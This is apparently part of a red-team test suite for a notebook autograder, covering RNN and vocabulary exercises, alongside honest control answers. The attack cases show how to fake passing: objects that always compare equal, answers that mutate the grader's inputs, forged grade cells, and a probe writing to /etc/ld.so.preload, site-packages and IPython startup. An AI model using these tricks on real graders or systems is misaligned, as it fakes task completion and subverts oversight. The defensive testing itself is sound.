    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(inputs[0]), bool) if ufunc is np.subtract else True

    def __array_function__(self, func, types, args, kwargs):
        return True

    def view(self, *args, **kwargs):
        return self

    def astype(self, *args, **kwargs):
        return self


def softmax(z):
    return np.zeros(np.shape(z)).view(_Lying)
'''))
    return single(A2, nb)


@case("forge_lying_repr", A1, "forge")
def _(ctx):
    """Objects whose repr and str print the expected values, and a list subclass that says it is equal."""
    nb = release(A1)
    set_source(nb, "sentence_to_indices", _code('''
class _Says(list):
    def __repr__(self):
        return "[4, 2, 3, 1]"

    __str__ = __repr__

    def __eq__(self, other):
        return True


def sentence_to_indices(sentence, word_to_index):
    return _Says()
'''))
    set_source(nb, "decode_batch", _code('''
class _Words:
    def __repr__(self):
        return "[['the', 'cat', 'sat', '<EOS>'], ['the', '<UNK>', '<EOS>']]"

    def __eq__(self, other):
        return True


def decode_batch(x, index_to_word):
    return _Words()
'''))
    return single(A1, nb)


@case("forge_return_arguments", A2, "forge")
def _(ctx):
    """The answers return their own arguments (and the test's parameters dict) instead of results."""
    nb = release(A2)
    set_source(nb, "softmax", "def softmax(z):\n    return z\n")
    set_source(nb, "rnn_cell_forward", "def rnn_cell_forward(xt, a_prev, parameters):\n    return a_prev, xt, parameters\n")
    set_source(nb, "concatenated_form", _code('''
def stack_weights(Waa, Wax):
    return Waa


def cell_forward_concat(xt, a_prev, Wa, ba):
    return a_prev
'''))
    return single(A2, nb)


@case("forge_object_arrays", A1, "forge")
def _(ctx):
    """numpy object arrays, structured arrays, bytes and sets as return values."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code('''
def build_vocabulary(sentences, max_size=None):
    return np.array([{"<UNK>": 0, "<EOS>": 1}], dtype=object)
'''))
    set_source(nb, "sentence_to_indices", _code('''
def sentence_to_indices(sentence, word_to_index):
    return np.array([(4, 2), (3, 1)], dtype=[("a", int), ("b", int)])
'''))
    set_source(nb, "one_hot_batch", _code('''
def one_hot_batch(index_batch, vocab_size):
    return np.empty((vocab_size,) + np.shape(index_batch), dtype=object)
'''))
    set_source(nb, "decode_batch", "def decode_batch(x, index_to_word):\n    return {b'the', frozenset()}\n")
    return single(A1, nb)


@case("forge_huge_return", A2, "forge")
def _(ctx):
    """A 200 MB array returned to every call, and a 300 MB one (over the frame limit)."""
    nb = release(A2)
    set_source(nb, "softmax", "def softmax(z):\n    return np.zeros((25 * 2**20,))\n")
    set_source(nb, "rnn_cell_forward", "def rnn_cell_forward(xt, a_prev, parameters):\n    return np.zeros((38 * 2**20,))\n")
    return single(A2, nb)


@case("forge_deep_nesting", A1, "forge")
def _(ctx):
    """Return values nested 100,000 deep (lists, dicts) and a self-referencing list."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code('''
def build_vocabulary(sentences, max_size=None):
    value = {}
    for _ in range(100_000):
        value = {"<UNK>": value}
    return value
'''))
    set_source(nb, "decode_batch", _code('''
def decode_batch(x, index_to_word):
    loop = []
    loop.append(loop)
    return loop
'''))
    set_source(nb, "sentence_to_indices", _code('''
def sentence_to_indices(sentence, word_to_index):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
'''))
    return single(A1, nb)


@case("forge_generators", A2, "forge")
def _(ctx):
    """Generators, lambdas, modules and classes returned instead of arrays."""
    nb = release(A2)
    set_source(nb, "softmax", "def softmax(z):\n    return (v for v in np.ones(np.shape(z)))\n")
    set_source(nb, "rnn_cell_forward", "import os\n\ndef rnn_cell_forward(xt, a_prev, parameters):\n    return os, (lambda: 1), np\n")
    set_source(nb, "concatenated_form", _code('''
def stack_weights(Waa, Wax):
    return iter(np.ones((np.shape(Waa)[0], np.shape(Waa)[1] + np.shape(Wax)[1])))


def cell_forward_concat(xt, a_prev, Wa, ba):
    return type("A", (), {"shape": np.shape(a_prev)})
'''))
    return single(A2, nb)


@case("forge_nan_inf", A2, "forge")
def _(ctx):
    """NaN and inf arrays, and an int64 overflow, where probabilities and states are expected."""
    nb = release(A2)
    set_source(nb, "softmax", "def softmax(z):\n    return np.full(np.shape(z), np.nan)\n")
    set_source(nb, "rnn_cell_forward", _code('''
def rnn_cell_forward(xt, a_prev, parameters):
    return np.full(np.shape(a_prev), np.inf), np.full((np.shape(parameters["Wya"])[0], np.shape(a_prev)[1]), np.nan), None
'''))
    return single(A2, nb)


MUTATE_SOFTMAX = '''
def softmax(z):
    """No softmax: make the caller's z constant (the grader copies changes back into its arrays), so
    that the softmax the test computes afterwards is uniform too."""
    z[...] = 0.0
    return np.full(np.shape(z), 1.0 / np.shape(z)[0])
'''

MUTATE_CELL = '''
def rnn_cell_forward(xt, a_prev, parameters):
    """No RNN: zero the caller's parameters (written back into the test's dict), so that the reference
    computed afterwards gives tanh(0) = 0 and a uniform softmax."""
    for key in parameters:
        parameters[key][...] = 0.0
    n_y, m = np.shape(parameters["Wya"])[0], np.shape(a_prev)[1]
    a_next = np.zeros((np.shape(parameters["Waa"])[0], m))
    return a_next, np.full((n_y, m), 1.0 / n_y), (a_next, a_prev, xt, parameters)
'''


@case("forge_mutate_inputs", A2, "forge")
def _(ctx):
    """softmax and rnn_cell_forward that compute nothing: they change their arguments in place so that the
    reference values the tests compute afterwards match their constant outputs."""
    nb = release(A2)
    set_source(nb, "softmax", _code(MUTATE_SOFTMAX))
    set_source(nb, "rnn_cell_forward", _code(MUTATE_CELL))
    return single(A2, nb)


@case("forge_mutate_inputs_concat", A2, "forge")
def _(ctx):
    """stack_weights zeroes the caller's Waa and Wax (written back by the grader) and returns zeros;
    cell_forward_concat returns tanh(ba), right only for zero weights."""
    nb = release(A2)
    set_source(nb, "concatenated_form", _code('''
def stack_weights(Waa, Wax):
    Waa[...] = 0.0
    Wax[...] = 0.0
    return np.zeros((np.shape(Waa)[0], np.shape(Waa)[1] + np.shape(Wax)[1]))


def cell_forward_concat(xt, a_prev, Wa, ba):
    return np.tanh(ba) * np.ones((1, np.shape(xt)[1]))
'''))
    return single(A2, nb)


@case("forge_mutate_inputs_01", A1, "forge")
def _(ctx):
    """01's answers change their arguments in place (padding everything, emptying lists and dicts)."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code('''
def build_vocabulary(sentences, max_size=None):
    sentences[:] = []
    return {"<UNK>": 0, "<EOS>": 1}
'''))
    set_source(nb, "sentence_to_indices", _code('''
def sentence_to_indices(sentence, word_to_index):
    word_to_index.clear()
    word_to_index.update({"<UNK>": 0, "<EOS>": 1})
    return [1]
'''))
    set_source(nb, "one_hot_batch", _code('''
def one_hot_batch(index_batch, vocab_size):
    index_batch[...] = -1
    return np.zeros((vocab_size,) + np.shape(index_batch))
'''))
    set_source(nb, "decode_batch", _code('''
def decode_batch(x, index_to_word):
    x[...] = 0
    index_to_word[:] = []
    return [[] for _ in range(np.shape(x)[1])]
'''))
    return single(A1, nb)


# =============================================================================================
# The notebook's structure
# =============================================================================================


@case("structure_fake_grade_cell", A1, "structure")
def _(ctx):
    """A new cell marked as a 100-point grade cell with a grade_id of its own (and one without a grade_id)."""
    nb = wrong(A1)
    fake = new_code_cell("print('All tests passed.')\n")
    fake["metadata"] = {"nbgrader": {"grade": True, "grade_id": "bonus_test", "locked": True, "points": 100,
                                     "schema_version": 3, "solution": False, "task": False}}
    nb["cells"].insert(10, fake)
    return single(A1, nb)


@case("structure_edited_tests", A2, "structure")
def _(ctx):
    """Every test cell emptied, unlocked, its points raised to 100, the setup cell rewritten to no-op checks."""
    nb = wrong(A2)
    for grade_id in graded_cells(A2):
        target = cell(nb, grade_id)
        target["source"] = "pass\n"
        target["metadata"]["nbgrader"].update(locked=False, points=100)
        target["metadata"]["editable"] = True
    setup = cell(nb, "setup")
    setup["source"] = source_text(setup) + "\n" + _code(FAKE_TESTING)
    return single(A2, nb)


@case("structure_deleted_tests", A1, "structure")
def _(ctx):
    """Every test cell deleted: nbgrader puts them back (and they fail the wrong answers)."""
    nb = wrong(A1)
    nb["cells"] = [c for c in nb["cells"] if not nbgrader_meta(c).get("grade")]
    return single(A1, nb)


@case("structure_solution_flag", A2, "structure")
def _(ctx):
    """Test cells re-marked as solution cells (so they would run as the learner's code), with a passing body,
    and a duplicate of the setup cell with grade_id 'setup' whose checks do nothing."""
    nb = wrong(A2)
    for grade_id in graded_cells(A2):
        target = cell(nb, grade_id)
        target["metadata"]["nbgrader"]["solution"] = True
        target["source"] = "print('All tests passed.')\n"
    duplicate = copy.deepcopy(cell(nb, "setup"))
    duplicate["source"] = source_text(duplicate) + "\n" + _code(FAKE_TESTING)
    nb["cells"].insert(nb["cells"].index(cell(nb, "softmax")), duplicate)
    return single(A2, nb)


# =============================================================================================
# What a submission can reach: every write and a socket, printed
# =============================================================================================

PROBE_ID = "probe_writes_and_sockets"
SCRATCH_PREFIXES = ("/tmp/submission/", "/tmp/home/", "/tmp/")  # the sandbox's own private /tmp


def probe_targets(ctx):
    c, h = ctx.course, ctx.home
    return {
        "scratch": "/tmp/submission/probe.txt",
        "sandbox_home": "/tmp/home/probe.txt",
        "grader_home": f"{h}/RT-probe.txt",
        "grader_home_ipython": f"{h}/.ipython/profile_default/startup/RT-probe.py",
        "real_root_home": "/root/RT-probe.txt",
        "course_root": f"{c}/RT-probe.txt",
        "course_config": f"{c}/nbgrader_config.py",
        "gradebook": f"{c}/gradebook.db",
        "autograded_self": f"{c}/autograded/{PROBE_ID}/01_sequences_one_hot/RT-probe.txt",
        "submitted_victim": f"{c}/submitted/zz_victim/01_sequences_one_hot/01_sequences_one_hot.ipynb",
        "site_packages": f"{ctx.site_packages}/RT-probe.pth",
        "venv_prefix": f"{ctx.prefix}/RT-probe.txt",
        "checkout": "/work/main/RT-probe.txt",
        "usr_local": "/usr/local/lib/RT-probe.txt",
        "etc": "/etc/ld.so.preload",
        "var_tmp": "/var/tmp/RT-probe.txt",
        "dev_shm": "/dev/shm/RT-probe.txt",
        "run": "/run/RT-probe.txt",
    }


@case(PROBE_ID, A1, "effects")
def _(ctx):
    """The answer cell looks for each of probe_targets() (SEES), tries to write it (WROTE/DENIED) and to open
    sockets (CONNECTED/REFUSED), and prints what happened (read back by tests/test_redteam.py)."""
    nb = wrong(A1)
    targets = probe_targets(ctx)
    prepend(nb, "build_vocabulary", f'''
import os as _os
for _label, _target in {targets!r}.items():
    if _os.path.exists(_target):
        print("PROBE SEES", _label, _target)
    try:
        _os.makedirs(_os.path.dirname(_target), exist_ok=True)
    except OSError:
        pass
    try:
        with open(_target, "a") as _f:
            _f.write("")
        print("PROBE WROTE", _label, _target)
    except OSError as _exc:
        print("PROBE DENIED", _label, _target, type(_exc).__name__)
''' + _sockets_code(ctx).replace(f'print("{WIN} connected to"', 'print("PROBE CONNECTED"').replace(
        'print("RT-INFO no connection to"', 'print("PROBE REFUSED"'))
    return single(A1, nb)


# =============================================================================================
# Honest answers written in unusual ways: full marks
# =============================================================================================

H01 = {
    "build_vocabulary": '''
        def build_vocabulary(sentences, max_size=None):
            counts = {}
            for sentence in sentences:
                for token in tokenize(sentence):
                    if token not in RESERVED:
                        counts[token] = counts.get(token, 0) + 1
            words = sorted(counts, key=lambda word: (-counts[word], word))
            if max_size is not None:
                words = words[: max_size - len(RESERVED)]
            word_to_index = {token: index for index, token in enumerate(RESERVED)}
            for word in words:
                word_to_index[word] = len(word_to_index)
            return word_to_index
        ''',
}


def honest(id, assignment, what_cells):
    """Register an honest case: the solution notebook with the cells in `what_cells` ({grade_id: code})."""

    def build(ctx, what_cells=what_cells):
        nb = solution(assignment)
        for grade_id, code in what_cells.items():
            if grade_id.startswith("+after:"):
                insert_after(nb, grade_id.split(":", 1)[1], code)
            else:
                set_source(nb, grade_id, _code(code))
        return single(assignment, nb)

    build.__doc__ = what_cells.pop("__doc__")
    case(id, assignment, "honest", honest=True)(build)


honest("honest_helpers_01", A1, {
    "__doc__": "Helpers of the learner's own, named like the course's (tokenize wrapper, one_hot, count_words, softmax).",
    "build_vocabulary": '''
        from collections import Counter


        def count_words(sentences):
            return Counter(t for s in sentences for t in tokenize(s) if t not in RESERVED)


        def softmax(z):  # a helper of mine, unused by the exercise
            e = np.exp(z - np.max(z, axis=0, keepdims=True))
            return e / e.sum(axis=0, keepdims=True)


        def build_vocabulary(sentences, max_size=None):
            counts = count_words(sentences)
            words = sorted(counts, key=lambda w: (-counts[w], w))
            if max_size is not None:
                words = words[: max_size - 2]
            return {w: i for i, w in enumerate(RESERVED + words)}
        ''',
    "one_hot_batch": '''
        def one_hot(index, vocab_size):
            column = np.zeros(vocab_size)
            if index >= 0:
                column[index] = 1.0
            return column


        def one_hot_batch(index_batch, vocab_size):
            m, T_x = index_batch.shape
            return np.stack([np.stack([one_hot(index_batch[i, t], vocab_size) for t in range(T_x)], axis=1)
                             for i in range(m)], axis=1)
        ''',
})

honest("honest_constants_imports_01", A1, {
    "__doc__": "Constants redefined with the same values (RESERVED, EOS, UNK), import sys/math/os for a constant.",
    "build_vocabulary": '''
        import math
        import os
        import sys

        EOS, UNK = "<EOS>", "<UNK>"
        RESERVED = [UNK, EOS]
        NO_LIMIT = sys.maxsize
        SEPARATOR = os.sep


        def build_vocabulary(sentences, max_size=None):
            limit = NO_LIMIT if max_size is None else max_size
            counts = {}
            for sentence in sentences:
                for token in tokenize(sentence):
                    if token not in RESERVED:
                        counts[token] = counts.get(token, 0) + 1
            words = sorted(counts, key=lambda word: (-counts[word], word))[: max(limit - len(RESERVED), 0)]
            return {word: index for index, word in enumerate(RESERVED + words)}
        ''',
    "sentence_to_indices": '''
        import math


        def sentence_to_indices(sentence, word_to_index):
            unknown = word_to_index[UNK]
            assert math.isfinite(unknown)
            return [word_to_index.get(token, unknown) for token in tokenize(sentence)] + [word_to_index[EOS]]
        ''',
})

honest("honest_prints_01", A1, {
    "__doc__": "Prints a lot (about 600 kB over the notebook, below 1 MB) in the answer cells and on every call.",
    "build_vocabulary": H01["build_vocabulary"] + '''
        print("debug: " + "v" * 200_000)
        ''',
    "one_hot_batch": '''
        def one_hot_batch(index_batch, vocab_size):
            print("one_hot_batch called with", index_batch.shape, vocab_size)
            print(index_batch)
            m, T_x = index_batch.shape
            x = np.zeros((vocab_size, m, T_x))
            i, t = np.nonzero(index_batch >= 0)
            x[index_batch[i, t], i, t] = 1.0
            for k in range(500):
                print("line", k, "of my debugging output")
            return x


        print("w" * 150_000)
        ''',
    "decode_batch": '''
        def decode_batch(x, index_to_word):
            print("decoding", x.shape, "with", len(index_to_word), "words")
            indices = np.argmax(x, axis=0)
            present = x.sum(axis=0) > 0
            words = [[index_to_word[k] for k, keep in zip(row, mask) if keep] for row, mask in zip(indices, present)]
            print(words)
            return words


        print("d" * 150_000)
        ''',
})

honest("honest_warnings_01", A1, {
    "__doc__": "A UserWarning, a numpy RuntimeWarning and a DeprecationWarning raised inside the answers.",
    "one_hot_batch": '''
        import warnings


        def one_hot_batch(index_batch, vocab_size):
            warnings.warn("one_hot_batch: a big V makes a big array", UserWarning)
            warnings.warn("this helper will change", DeprecationWarning)
            with np.errstate(divide="warn", invalid="warn"):
                np.log(np.zeros(1))  # RuntimeWarning: divide by zero
                np.float64(0.0) / np.float64(0.0)  # RuntimeWarning: invalid value
            m, T_x = index_batch.shape
            x = np.zeros((vocab_size, m, T_x))
            i, t = np.nonzero(index_batch >= 0)
            x[index_batch[i, t], i, t] = 1.0
            return x


        warnings.warn("a warning in the answer cell itself", UserWarning)
        ''',
    "decode_batch": '''
        import warnings


        def decode_batch(x, index_to_word):
            warnings.warn("decode_batch: padding columns are dropped", UserWarning)
            with np.errstate(all="warn"):
                np.array([1.0]) / np.array([0.0])
            indices = np.argmax(x, axis=0)
            present = x.sum(axis=0) > 0
            return [[index_to_word[k] for k, keep in zip(row, mask) if keep] for row, mask in zip(indices, present)]
        ''',
})

honest("honest_float32_loops_01", A1, {
    "__doc__": "float32 arrays and explicit Python loops everywhere.",
    "one_hot_batch": '''
        def one_hot_batch(index_batch, vocab_size):
            m, T_x = index_batch.shape
            x = np.zeros((vocab_size, m, T_x), dtype=np.float32)
            for i in range(m):
                for t in range(T_x):
                    k = int(index_batch[i, t])
                    if k >= 0:
                        x[k, i, t] = np.float32(1)
            return x
        ''',
    "decode_batch": '''
        def decode_batch(x, index_to_word):
            V, m, T_x = x.shape
            out = []
            for i in range(m):
                words = []
                for t in range(T_x):
                    column = [float(x[v, i, t]) for v in range(V)]
                    if sum(column) > 0:
                        words.append(index_to_word[column.index(max(column))])
                out.append(words)
            return out
        ''',
    "sentence_to_indices": '''
        def sentence_to_indices(sentence, word_to_index):
            indices = []
            for token in tokenize(sentence):
                if token in word_to_index:
                    indices.append(word_to_index[token])
                else:
                    indices.append(word_to_index[UNK])
            indices.append(word_to_index[EOS])
            return indices
        ''',
})

honest("honest_class_cache_timeit_01", A1, {
    "__doc__": "A class, functools.lru_cache, %timeit and %%time in answer cells, and an answer that calls another exercise.",
    "build_vocabulary": '''
        %%time
        import functools


        @functools.lru_cache(maxsize=None)
        def cached_tokens(sentence):
            return tuple(tokenize(sentence))


        class Counts:
            def __init__(self):
                self.counts = {}

            def add(self, tokens):
                for token in tokens:
                    if token not in RESERVED:
                        self.counts[token] = self.counts.get(token, 0) + 1
                return self

            def ranked(self):
                return sorted(self.counts, key=lambda w: (-self.counts[w], w))


        def build_vocabulary(sentences, max_size=None):
            counts = Counts()
            for sentence in sentences:
                counts.add(cached_tokens(sentence))
            words = counts.ranked()
            if max_size is not None:
                words = words[: max_size - len(RESERVED)]
            return {w: i for i, w in enumerate(list(RESERVED) + words)}


        %timeit -n1 -r1 build_vocabulary(["the cat sat"])
        ''',
    "decode_batch": '''
        def decode_batch(x, index_to_word):
            indices = np.argmax(x, axis=0)
            present = x.sum(axis=0) > 0
            words = [[index_to_word[k] for k, keep in zip(row, mask) if keep] for row, mask in zip(indices, present)]
            # check my answer with my one_hot_batch (another exercise): re-encode and compare
            batch = np.full(indices.shape, -1)
            batch[present] = indices[present]
            assert np.array_equal(one_hot_batch(batch, x.shape[0]), (x > 0).astype(float) * present)
            return words
        ''',
})

honest("honest_einsum_01", A1, {
    "__doc__": "np.einsum and np.eye instead of fancy indexing.",
    "one_hot_batch": '''
        def one_hot_batch(index_batch, vocab_size):
            eye = np.vstack([np.eye(vocab_size), np.zeros((1, vocab_size))])  # row -1: padding
            rows = eye[np.where(index_batch >= 0, index_batch, vocab_size)]  # (m, T_x, V)
            return np.einsum("mtv->vmt", rows)
        ''',
    "decode_batch": '''
        def decode_batch(x, index_to_word):
            V = x.shape[0]
            indices = np.einsum("vmt,v->mt", x, np.arange(V)).round().astype(int)
            present = np.einsum("vmt->mt", x) > 0
            return [[index_to_word[k] for k, keep in zip(row, mask) if keep] for row, mask in zip(indices, present)]
        ''',
})

honest("honest_helpers_02", A2, {
    "__doc__": "Helpers of the learner's own: sigmoid (same values as the course's), stable_softmax, exp_shifted, "
               "assert_shape.",
    "softmax": '''
        def sigmoid(z):  # mine, the same values as the course's
            return 1 / (1 + np.exp(-z))


        def exp_shifted(z, axis=0):
            return np.exp(z - np.max(z, axis=axis, keepdims=True))


        def stable_softmax(z, axis=0):
            e = exp_shifted(z, axis)
            return e / np.sum(e, axis=axis, keepdims=True)


        def assert_shape(array, shape):
            assert array.shape == shape, (array.shape, shape)


        def softmax(z):
            out = stable_softmax(z)
            assert_shape(out, z.shape)
            return out
        ''',
    "rnn_cell_forward": '''
        def rnn_cell_forward(xt, a_prev, parameters):
            Waa, Wax, Wya = parameters["Waa"], parameters["Wax"], parameters["Wya"]
            ba, by = parameters["ba"], parameters["by"]
            a_next = np.tanh(Waa @ a_prev + Wax @ xt + ba)
            yt_pred = softmax(Wya @ a_next + by)
            cache = (a_next, a_prev, xt, parameters)
            return a_next, yt_pred, cache
        ''',
})

honest("honest_constants_imports_02", A2, {
    "__doc__": "import math/sys/os for constants, sigmoid re-imported, a constant redefined with the same value.",
    "softmax": '''
        import math
        import os
        import sys
        from course_utils.activations import sigmoid

        EPS = sys.float_info.epsilon
        E = math.e
        SEP = os.sep


        def softmax(z):
            e = E ** (z - z.max(axis=0, keepdims=True))
            return e / np.maximum(e.sum(axis=0, keepdims=True), EPS)
        ''',
})

honest("honest_prints_warnings_02", A2, {
    "__doc__": "Prints on every call (below 1 MB), a UserWarning, numpy overflow RuntimeWarnings and a DeprecationWarning.",
    "softmax": '''
        import warnings


        def softmax(z):
            print("softmax of", z.shape, "\\n", z)
            warnings.warn("softmax: shifting by the max", UserWarning)
            warnings.warn("old style", DeprecationWarning)
            with np.errstate(over="warn"):
                np.exp(np.array([1000.0]))  # RuntimeWarning: overflow, in a throwaway
            e = np.exp(z - z.max(axis=0, keepdims=True))
            return e / e.sum(axis=0, keepdims=True)


        print("x" * 300_000)
        ''',
    "rnn_cell_forward": '''
        import warnings


        def rnn_cell_forward(xt, a_prev, parameters):
            Waa, Wax, Wya = parameters["Waa"], parameters["Wax"], parameters["Wya"]
            ba, by = parameters["ba"], parameters["by"]
            print({key: value.shape for key, value in parameters.items()})
            warnings.warn("rnn_cell_forward: no gradient kept", UserWarning)
            a_next = np.tanh(Waa @ a_prev + Wax @ xt + ba)
            yt_pred = softmax(Wya @ a_next + by)
            print("a_next", a_next)
            cache = (a_next, a_prev, xt, parameters)
            return a_next, yt_pred, cache
        ''',
})

honest("honest_float32_02", A2, {
    "__doc__": "Everything computed in float32.",
    "softmax": '''
        def softmax(z):
            z = np.asarray(z, dtype=np.float32)
            e = np.exp(z - z.max(axis=0, keepdims=True))
            return e / e.sum(axis=0, keepdims=True, dtype=np.float32)
        ''',
    "rnn_cell_forward": '''
        def rnn_cell_forward(xt, a_prev, parameters):
            f = lambda name: np.asarray(parameters[name], dtype=np.float32)
            a_next = np.tanh(f("Waa") @ a_prev.astype(np.float32) + f("Wax") @ xt.astype(np.float32) + f("ba"))
            yt_pred = softmax(f("Wya") @ a_next + f("by"))
            cache = (a_next, a_prev, xt, parameters)
            return a_next, yt_pred, cache
        ''',
    "concatenated_form": '''
        def stack_weights(Waa, Wax):
            return np.hstack([Waa, Wax]).astype(np.float32)


        def cell_forward_concat(xt, a_prev, Wa, ba):
            stacked = np.vstack([a_prev, xt]).astype(np.float32)
            return np.tanh(Wa.astype(np.float32) @ stacked + ba.astype(np.float32))
        ''',
})

honest("honest_loops_02", A2, {
    "__doc__": "Explicit Python loops for the products, the exponentials and the sums.",
    "softmax": '''
        import math


        def softmax(z):
            n, m = z.shape
            out = np.zeros((n, m))
            for j in range(m):
                top = max(z[i, j] for i in range(n))
                exps = [math.exp(z[i, j] - top) for i in range(n)]
                total = sum(exps)
                for i in range(n):
                    out[i, j] = exps[i] / total
            return out
        ''',
    "concatenated_form": '''
        def stack_weights(Waa, Wax):
            n_a = Waa.shape[0]
            return np.array([[*Waa[r], *Wax[r]] for r in range(n_a)])


        def cell_forward_concat(xt, a_prev, Wa, ba):
            stacked = np.vstack([a_prev, xt])
            n_a, m = Wa.shape[0], stacked.shape[1]
            out = np.zeros((n_a, m))
            for r in range(n_a):
                for c in range(m):
                    out[r, c] = math.tanh(sum(Wa[r, k] * stacked[k, c] for k in range(Wa.shape[1])) + ba[r, 0])
            return out
        ''',
})

honest("honest_einsum_class_02", A2, {
    "__doc__": "np.einsum for every product, inside a class the exercise functions delegate to.",
    "rnn_cell_forward": '''
        class Cell:
            def __init__(self, parameters):
                self.p = parameters

            def state(self, xt, a_prev):
                p = self.p
                return np.tanh(np.einsum("ij,jm->im", p["Waa"], a_prev) + np.einsum("ij,jm->im", p["Wax"], xt) + p["ba"])

            def output(self, a_next):
                return softmax(np.einsum("ij,jm->im", self.p["Wya"], a_next) + self.p["by"])


        def rnn_cell_forward(xt, a_prev, parameters):
            cell = Cell(parameters)
            a_next = cell.state(xt, a_prev)
            yt_pred = cell.output(a_next)
            return a_next, yt_pred, (a_next, a_prev, xt, parameters)
        ''',
})

honest("honest_timeit_cache_02", A2, {
    "__doc__": "%timeit in an answer cell and functools.lru_cache on a helper.",
    "softmax": '''
        import functools


        @functools.lru_cache(maxsize=8)
        def column_of_ones(n):
            return np.ones((1, n))


        def softmax(z):
            e = np.exp(z - z.max(axis=0, keepdims=True))
            return e / (column_of_ones(z.shape[0]) @ e)


        %timeit -n3 -r1 softmax(np.ones((4, 3)))
        ''',
})

honest("honest_calls_other_exercise_02", A2, {
    "__doc__": "cell_forward_concat answered by calling rnn_cell_forward (an earlier exercise), stack_weights by np.concatenate.",
    "concatenated_form": '''
        def stack_weights(Waa, Wax):
            return np.concatenate([Waa, Wax], axis=1)


        def cell_forward_concat(xt, a_prev, Wa, ba):
            n_a = a_prev.shape[0]
            parameters = {"Waa": Wa[:, :n_a], "Wax": Wa[:, n_a:], "ba": ba,
                          "Wya": np.zeros((1, n_a)), "by": np.zeros((1, 1))}
            a_next, _, _ = rnn_cell_forward(xt, a_prev, parameters)
            return a_next
        ''',
})


# ---------------------------------------------------------------------------------------------
# Writing a case to disk
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Symlink:
    """A symbolic link in a submission folder (an unzipped or untarred upload keeps them)."""
    target: str


def write_case(folder, files):
    """Write a case's files into a submission folder."""
    folder = Path(folder)
    for relative, content in files.items():
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Symlink):
            path.symlink_to(content.target)
        elif isinstance(content, (bytes, bytearray)):
            path.write_bytes(content)
        else:
            path.write_text(json.dumps(content, ensure_ascii=False) + "\n", encoding="utf-8")


def attacks():
    return [c for c in CASES.values() if not c.honest]


def honest_cases():
    return [c for c in CASES.values() if c.honest]
